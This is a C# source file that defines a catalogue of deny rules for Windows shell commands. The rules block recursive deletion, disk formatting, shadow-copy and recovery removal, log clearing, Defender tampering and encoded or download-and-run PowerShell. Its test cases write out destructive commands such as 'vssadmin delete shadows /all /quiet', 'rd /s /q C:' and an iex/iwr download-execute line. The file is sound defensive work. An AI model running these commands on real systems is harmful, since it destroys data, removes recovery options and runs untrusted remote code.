namespace Arrea.Dataflow.Validation.Rules.Catalogue;

/// <summary>Rules about commands of Windows, as far as they can be seen in a text of the shell.</summary>
internal static class WindowsRules
{
    public static IReadOnlyList<ValidationRule> Rules { get; } =
    [
        new()
        {
            Id = "no_windows_remove",
            Pattern = "Remove-Item -Recurse",
            Message = "It deletes folders with everything in them: {0}.",
            When = Conditions.Commands(
                "del|erase|rd|rmdir @/s|/S|/s/q|/S/Q|/q/s|/Q/S",
                "del|erase @/f|/F|/q|/Q|?:*",
                "rd|rmdir ?:*",
                "powershell|powershell.exe|pwsh|pwsh.exe @*Remove-Item*|*rm?-r*|*rmdir*|*rd?/s*|*del?/*|*ri?-r*|*Clear-Content*|*Clear-RecycleBin*|*[IO.Directory]::Delete*|*remove-item*",
                "cmd|cmd.exe @*del?*|*rd?*|*rmdir?*|*erase?*|*format?*|*deltree*",
                "Remove-Item|remove-item|ri -Recurse|-recurse|-r|-Force|-force",
                "forfiles @*del?*|*rd?*|*rmdir?*|*erase?*",
                "robocopy @/MIR|/mir|/PURGE|/purge|/MOVE|/move",
                "takeown|icacls|cacls @/f|/F|/r|/R|/grant|/grant:r|/T|/t|/reset",
                "attrib -h|-s|-r @*"),
            Matches = ["powershell -NoProfile -Command 'Remove-Item -Recurse -Force C:\\Users'", "rd /s /q C:", "cmd /c 'del /s /q C:'"],
            Passes = ["powershell -Command Get-ChildItem", "rmdir empty-dir"],
        },
        new()
        {
            Id = "no_windows_format",
            Pattern = "format C:",
            Message = "It erases or divides a drive: {0}.",
            When = Conditions.Commands(
                "format|FORMAT|format.com|FORMAT.COM ?:*",
                "diskpart",
                "powershell|powershell.exe|pwsh|pwsh.exe @*Format-Volume*|*Clear-Disk*|*Initialize-Disk*|*Remove-Partition*|*format-volume*|*clear-disk*",
                "Format-Volume|Clear-Disk|Remove-Partition|Initialize-Disk|Set-Disk",
                "cipher|cipher.exe @/w*|/W*",
                "mountvol @/d|/D|/r"),
            Matches = ["format C: /y", "diskpart /s x.txt"],
            Passes = ["format report.txt", "clang-format -i x.c"],
        },
        new()
        {
            Id = "no_windows_recovery",
            Pattern = "vssadmin delete",
            Message = "It removes what the machine could be restored from, or a guard of it: {0}.",
            When = Conditions.Commands(
                "vssadmin|vssadmin.exe delete|Delete|resize",
                "Get-WmiObject|Get-CimInstance|gwmi Win32_ShadowCopy|win32_shadowcopy",
                "wbadmin delete|stop|disable",
                "wmic|wmic.exe shadowcopy|process|os|product delete|call",
                "bcdedit|bcdedit.exe @/set|/delete|/deletevalue|/import",
                "reagentc @/disable",
                "fsutil usn|file deletejournal|setzerodata",
                "wevtutil|wevtutil.exe cl|clear-log|sl",
                "reg|reg.exe delete|add|import|load|restore|save",
                "sc|sc.exe delete|stop|config|create|failure",
                "net|net.exe user|localgroup|stop|share @/add|/delete|/active:*|stop",
                "net|net.exe stop",
                "netsh advfirewall|firewall",
                "schtasks|schtasks.exe @/create|/delete|/change|/Create|/Delete",
                "runas|runas.exe @/user:*|/User:*|/USER:*",
                "taskkill @/f|/F|/im|/IM",
                "Stop-Computer|Restart-Computer|Set-ExecutionPolicy|Disable-ComputerRestore|Set-MpPreference|Add-MpPreference|New-LocalUser|Add-LocalGroupMember|Stop-Service|Stop-Process",
                "powershell|powershell.exe|pwsh|pwsh.exe @*Stop-Computer*|*Restart-Computer*|*Set-MpPreference*|*Add-MpPreference*|*Set-ExecutionPolicy*|*Win32_ShadowCopy*|*New-LocalUser*|*Add-LocalGroupMember*|*Stop-Service*|*Disable-ComputerRestore*|*Clear-EventLog*"),
            Matches = ["vssadmin delete shadows /all /quiet", "wbadmin delete catalog", "reg delete HKLM"],
            Passes = ["reg query HKLM", "net use", "sc query"],
        },
        new()
        {
            Id = "no_windows_encoded",
            Pattern = "powershell -enc",
            Message = "It runs a program that nobody can read, or one from another machine: {0}.",
            When = Conditions.Commands(
                "powershell|powershell.exe|pwsh|pwsh.exe -e|-ec|-en|-enc|-enco|-encod|-encode|-encoded|-encodedc|-encodedco|-encodedcom|-encodedcomm|-encodedcomma|-encodedcomman|-encodedcommand|-EncodedCommand|-Enc|-ENC|-E|-Encodedcommand|-EC|-eNc",
                "powershell|powershell.exe|pwsh|pwsh.exe /e|/enc|/EncodedCommand|/ec",
                "powershell|powershell.exe|pwsh|pwsh.exe @*FromBase64String*|*DownloadString*|*DownloadFile*|*Invoke-Expression*|*iex?*|*IEX*|*iwr?*|*Net.WebClient*|*Invoke-WebRequest*|*iex(*|*Start-BitsTransfer*",
                "certutil|certutil.exe -decode|-urlcache|-decodehex|/decode|/urlcache",
                "mshta|wscript|cscript|regsvr32|rundll32|installutil|msiexec @*http*|*javascript*|*vbscript*|*scrobj*"),
            Matches = ["powershell -enc UgBlAG0A", "powershell -c 'iex (iwr https://example.com/x)'"],
            Passes = ["powershell -ExecutionPolicy Bypass -File x.ps1"],
        },
    ];
}
